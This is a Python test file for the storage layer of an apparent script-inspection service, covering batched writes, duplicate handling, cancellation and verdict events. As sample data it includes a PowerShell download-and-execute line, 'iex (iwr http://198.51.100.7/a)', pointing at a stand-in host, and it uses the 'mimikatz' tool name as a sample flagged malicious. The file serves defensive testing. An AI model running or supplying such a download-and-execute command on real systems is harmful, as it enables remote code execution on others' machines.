"""The service's write path: a finished inspection stored in one write, batched with others.

`InspectionRepository.save_completed` stores what `create` + `save_verdict` store,
in one transaction that the group-commit writer shares between concurrent callers. Run on
SQLite and PostgreSQL alike (see conftest.py).
"""

from __future__ import annotations

import asyncio
import hashlib
from pathlib import Path

import pytest
import sqlalchemy as sa

from inspector.model import VerdictClass
from inspector.store import InspectionFilter, Store, StoreError
from inspector.store.blobs import BlobError
from inspector.store.schema import inspections
from inspector.store.testing import Backend, blobs_of, make_verdict, temporary_store
from tests.timing import poll

REQUEST = {"type": "CustomScript", "settings": {"commandToExecute": "[redacted]"}}
CONTEXT = {"vm_size": "Standard_B2s", "caller": "ops@example.test"}


async def _save(store: Store, inspection_id: str, contents: list[bytes], *, with_bytes: bool = True,
                **verdict_args: object) -> None:
    verdict = make_verdict(inspection_id, contents, **verdict_args)  # type: ignore[arg-type]
    await store.inspections.save_completed(inspection_id, "extension", REQUEST, CONTEXT, "key1", "in.json",
                                          verdict, blobs_of(contents) if with_bytes else {})


async def _stored_request(store: Store, inspection_id: str) -> tuple[object, object]:
    async with store.database.engine.connect() as conn:
        row = (await conn.execute(sa.select(inspections.c.request, inspections.c.context)
                                  .where(inspections.c.id == inspection_id))).one()
    return row.request, row.context


async def test_a_completed_inspection_reads_back_like_one_recorded_in_two_steps(store: Store) -> None:
    contents = [b"iex (iwr http://198.51.100.7/a)", b"decoded child"]
    urls: list[str | None] = ["https://example.test/run.ps1", None]
    args = {"verdict": VerdictClass.MALICIOUS, "score": 1200, "alerts": ["VM_X", "VM_Y"], "urls": urls}
    await _save(store, "one-write", contents, **args)
    await store.inspections.create("two-writes", "extension", REQUEST, CONTEXT, "key1", "in.json")
    await store.inspections.save_verdict("two-writes", make_verdict("two-writes", contents, **args), blobs_of(contents))  # type: ignore[arg-type]

    one, two = await store.inspections.get("one-write"), await store.inspections.get("two-writes")
    assert one is not None and two is not None
    assert one.status == two.status == "done" and one.error is None
    assert (one.kind, one.key_id, one.input_name) == (two.kind, two.key_id, two.input_name)
    assert one.verdict == make_verdict("one-write", contents, **args)  # type: ignore[arg-type]
    assert await _stored_request(store, "one-write") == await _stored_request(store, "two-writes")

    summaries = {s.id: s for s in await store.inspections.search(InspectionFilter())}
    a, b = summaries["one-write"], summaries["two-writes"]
    assert (a.verdict, a.score, a.severity, a.alert_types, a.ruleset_version) == (
        b.verdict, b.score, b.severity, b.alert_types, b.ruleset_version)
    sha = hashlib.sha256(contents[1]).hexdigest()
    for flt in (InspectionFilter(sha256=sha), InspectionFilter(alert_type="VM_Y"), InspectionFilter(url="run.ps1")):
        assert {s.id for s in await store.inspections.search(flt)} == {"one-write", "two-writes"}, flt
    payload = await store.payloads.get(sha)
    assert payload is not None and payload.blob_available and set(payload.inspections) == {"one-write", "two-writes"}
    assert await store.payloads.get_bytes(sha) == contents[1]


async def test_concurrent_inspections_share_transactions_and_all_are_stored(store: Store) -> None:
    shared = b"the same dropper in every inspection"
    await asyncio.gather(*(_save(store, f"c{n:02d}", [f"script {n}".encode(), shared]) for n in range(40)))
    transactions, items, largest = store.inspections.write_batches
    assert items == 40 and transactions < 40 and largest > 1
    listed = await store.inspections.search(InspectionFilter(), limit=100)
    assert sorted(s.id for s in listed) == [f"c{n:02d}" for n in range(40)]
    assert all(s.status == "done" for s in listed)
    payload = await store.payloads.get(hashlib.sha256(shared).hexdigest())
    assert payload is not None and payload.blob_available and len(payload.inspections) == 40


async def test_a_duplicate_id_fails_alone_and_the_rest_of_its_batch_is_stored(store: Store) -> None:
    await store.inspections.create("taken", "script", {}, None, None)
    ids = [f"n{n}" for n in range(5)] + ["taken"] + [f"m{n}" for n in range(5)]
    # No bytes: every call reaches the writer in the same turn of the loop, so they share a batch.
    outcomes = await asyncio.gather(*(_save(store, i, [i.encode()], with_bytes=False) for i in ids),
                                    return_exceptions=True)
    failed = {i: o for i, o in zip(ids, outcomes, strict=True) if o is not None}
    assert list(failed) == ["taken"]
    assert isinstance(failed["taken"], StoreError) and "already recorded" in str(failed["taken"])
    for i in ids[:5] + ids[6:]:
        stored = await store.inspections.get(i)
        assert stored is not None and stored.status == "done", i
    untouched = await store.inspections.get("taken")
    assert untouched is not None and untouched.status == "queued" and untouched.verdict is None


async def test_the_same_id_twice_in_one_batch_is_stored_once(store: Store) -> None:
    outcomes = await asyncio.gather(_save(store, "twice", [b"a"], with_bytes=False),
                                    _save(store, "twice", [b"b"], with_bytes=False),
                                    _save(store, "other", [b"c"], with_bytes=False), return_exceptions=True)
    assert sum(o is None for o in outcomes[:2]) == 1 and isinstance(outcomes[0] or outcomes[1], StoreError)
    assert outcomes[2] is None
    assert (await store.inspections.get("twice")).status == "done"  # type: ignore[union-attr]


async def test_malformed_ids_keys_and_bytes_are_refused_and_nothing_is_written(store: Store) -> None:
    with pytest.raises(StoreError, match="1-64"):
        await _save(store, "", [b"x"])
    with pytest.raises(StoreError, match="1-64"):
        await _save(store, "x" * 65, [b"x"])
    bad_key = make_verdict("bad-key", [b"x"]).model_copy(deep=True)
    bad_key.artifacts[0].sha256 = "not-a-hash"
    with pytest.raises(BlobError):
        await store.inspections.save_completed("bad-key", "script", {}, None, None, None, bad_key, {})
    with pytest.raises(BlobError, match="does not match"):
        await store.inspections.save_completed("bad-bytes", "script", {}, None, None, None,
                                              make_verdict("bad-bytes", [b"one"]),
                                              {hashlib.sha256(b"one").hexdigest(): b"two"})
    assert await store.inspections.search(InspectionFilter()) == []


async def test_an_artifact_without_bytes_is_recorded_as_unavailable(store: Store) -> None:
    await _save(store, "no-bytes", [b"fetched elsewhere"], with_bytes=False)
    payload = await store.payloads.get(hashlib.sha256(b"fetched elsewhere").hexdigest())
    assert payload is not None and not payload.blob_available


async def test_a_caller_that_stops_waiting_does_not_withdraw_its_inspection(store: Store) -> None:
    call = asyncio.ensure_future(_save(store, "abandoned", [b"abandoned script"]))
    await asyncio.sleep(0)
    call.cancel()
    stored = await poll(lambda: store.inspections.get("abandoned"), lambda found: found is not None,
                        what="the abandoned inspection was stored")
    assert stored is not None and stored.status == "done"
    assert await store.payloads.get_bytes(hashlib.sha256(b"abandoned script").hexdigest()) == b"abandoned script"


async def test_close_commits_every_inspection_already_queued_then_refuses_more(backend: Backend,
                                                                             tmp_path: Path) -> None:
    # Small batches, so most of the 30 are still waiting in the queue when close() is called.
    async with temporary_store(backend, tmp_path, store_write_batch=2) as store:
        calls = [asyncio.ensure_future(_save(store, f"q{n:02d}", [f"q{n}".encode()], with_bytes=False))
                 for n in range(30)]
        for _ in range(5):
            await asyncio.sleep(0)
        assert store.inspections._finished_writer is not None and store.inspections._finished_writer.depth > 0  # still queued
        await store.close()
        assert all(c.done() and c.exception() is None for c in calls)
        with pytest.raises(StoreError, match="closed"):
            await _save(store, "late", [b"late"], with_bytes=False)
        reopened = await Store.open(store.settings)
        try:
            listed = await reopened.inspections.search(InspectionFilter(), limit=100)
            assert sorted(s.id for s in listed) == [f"q{n:02d}" for n in range(30)]
        finally:
            await reopened.close()


async def test_without_group_commit_each_inspection_has_its_own_transaction(backend: Backend,
                                                                          tmp_path: Path) -> None:
    async with temporary_store(backend, tmp_path, store_group_commit=False) as store:
        await asyncio.gather(*(_save(store, f"s{n}", [f"s{n}".encode()]) for n in range(5)))
        assert store.inspections.write_batches == (0, 0, 0)
        assert len(await store.inspections.search(InspectionFilter())) == 5
        with pytest.raises(StoreError, match="already recorded"):
            await _save(store, "s0", [b"again"])


async def test_batch_size_is_bounded_by_the_setting(backend: Backend, tmp_path: Path) -> None:
    async with temporary_store(backend, tmp_path, store_write_batch=4) as store:
        await asyncio.gather(*(_save(store, f"b{n:02d}", [b"x"], with_bytes=False) for n in range(10)))
        transactions, items, largest = store.inspections.write_batches
        assert items == 10 and largest <= 4 and transactions >= 3


async def test_new_verdict_events_are_written_with_their_inspections(backend: Backend, tmp_path: Path) -> None:
    async with temporary_store(backend, tmp_path, events_on_new_verdicts=True) as store:
        await asyncio.gather(
            _save(store, "bad", [b"mimikatz"], verdict=VerdictClass.MALICIOUS, score=900, alerts=["VM_Mimikatz"]),
            _save(store, "fine", [b"echo ok"]),
        )
        await store.inspections.create("two-step", "script", {}, None, None)
        await store.inspections.save_verdict("two-step", make_verdict("two-step", [b"mimikatz"], verdict=VerdictClass.MALICIOUS,
                                                          score=900, alerts=["VM_Mimikatz"]), {})
        events = await store.events.read()
        assert [(e.type, e.inspection_id) for e in events] == [("verdict.new", "bad"), ("verdict.new", "two-step")]
        assert events[0].data["new"] == events[1].data["new"] == {
            "verdict": "malicious", "score": 900, "severity": "High", "alerts": ["VM_Mimikatz"]}
